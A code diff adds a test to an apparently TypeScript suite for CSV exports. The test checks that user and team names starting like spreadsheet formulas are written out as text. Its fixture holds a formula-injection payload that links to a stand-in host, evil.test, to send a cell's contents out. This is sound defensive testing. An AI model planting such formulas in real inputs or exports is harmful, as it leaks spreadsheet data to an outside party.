@@ -504,6 +504,18 @@ describe(`streamed CSV exports on ${backend}`, () => {
 		expect(rows.find((r) => r.user_id === w.users.siteAdmin.id)).toMatchObject({ role: 'admin', role_name: (await listSiteRoles(db.orm)).find((r) => r.key === 'admin')!.name });
 	});
 
+	it('writes a cell that starts like a formula as text, so a name typed at sign-up runs nothing in the admin\'s spreadsheet', async () => {
+		const formula = '=HYPERLINK("http://evil.test/?x="&A1,"Open")';
+		const person = await createUser(db.orm, { email: `formula-${tag()}@example.com`, name: formula, siteRole: 'subscriber' });
+		const team = await createTeam(db.orm, { name: `+SUM(1,2) ${tag()}`, ownerUserId: person.id });
+		const people = await csvRows((await usersCsv(db.orm)).body);
+		expect(people.find((r) => r.user_id === person.id)).toMatchObject({ name: `'${formula}`, email: person.email, balance_tokens: '0' });
+		const pools = await csvRows((await teamsCsv(db.orm)).body);
+		expect(pools.find((r) => r.team_id === team.id)!.name).toBe(`'${team.name}`);
+		// Names that only look odd stay as they were typed.
+		expect(people.find((r) => r.user_id === w.users.siteAdmin.id)!.name).not.toMatch(/^'/);
+	});
+
 	it('the team pools export has every team once with the ledger’s figures, in the users export’s balance columns, and no person in it', async () => {
 		await upsertModule(db.orm, { key: 'pool', name: 'Pool module', limitMessage: 'No.' });
 		await upsertFeature(db.orm, { key: 'pool_op', name: 'Pool op', module: 'pool', unit: 'operation', tokensPerUnit: 7 });
